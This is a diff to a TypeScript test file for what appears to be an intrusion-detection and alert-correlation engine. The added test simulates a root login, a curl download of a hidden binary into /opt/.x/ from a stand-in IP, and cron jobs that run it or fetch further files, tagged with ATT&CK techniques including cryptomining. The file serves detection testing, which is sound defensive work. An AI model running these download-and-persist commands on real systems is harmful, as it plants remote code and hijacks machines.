@@ -10,7 +10,7 @@ const begin = () => {
   const m = new Machine(triad);
   return { m, ...openIncidents({ lineage: m.graph, now: () => m.clock }) };
 };
-const line = (m: Machine, kind: 'sshd' | 'nginx', fields: Partial<Event>): Event => Object.assign(new Event(`line ${m.clock} ${JSON.stringify(fields)}`, m.clock, kind), { host: 'web1', service: kind, ...fields });
+const line = (m: Machine, kind: 'sshd' | 'nginx' | 'cron', fields: Partial<Event>): Event => Object.assign(new Event(`line ${m.clock} ${JSON.stringify(fields)}`, m.clock, kind), { host: 'web1', service: kind, ...fields });
 
 /** The event of a process that was told a moment ago: it looks at its own files. */
 const spawned = (m: Machine, pid: number): Event => m.tell('process_creation', pid, { action: 'process-start', process_path: m.node(pid).path, process_cmdline: m.node(pid).cmdline });
@@ -31,6 +31,18 @@ describe('one story', () => {
     take([alertOf('mine', m.exec(miner, '/opt/.x/logd'), { attack: ['T1496.001'] })]);
     take([alertOf('seen', m.tell('finding', undefined, { file_path: '/opt/.x/logd' }), { attack: [], rule: 'check.cron' })]);
     expect(together(store)).toBe('download guess mine seen');
+  });
+
+  it('is a file that was written here and the line of cron’s log that says it was run; what is run by everybody is none', () => {
+    const { m, store, take } = begin();
+    const shell = m.login('root', '203.0.113.9');
+    const curl = m.spawn(shell, '/usr/bin/curl', 'curl -o /opt/.x/logd http://198.51.100.7/logd');
+    take([alertOf('download', m.file(curl, 'create', '/opt/.x/logd'), { attack: ['T1105'] })]);
+    const job = (cmdline: string): Event => line(m, 'cron', { action: 'cron-run', user: 'root', process_cmdline: cmdline });
+    take([alertOf('job', job('/opt/.x/logd -q'), { attack: ['T1053.003'] })]);
+    take([alertOf('other', job('/usr/bin/curl -o /tmp/a http://192.0.2.7/a'), { attack: ['T1053.003'] })]);
+    take([alertOf('third', job('/usr/bin/curl -o /tmp/b http://192.0.2.8/b'), { attack: ['T1053.003'] })]);
+    expect(together(store)).toBe('download job | other | third');
   });
 
   it('is a planted unit that comes back, and its file', () => {
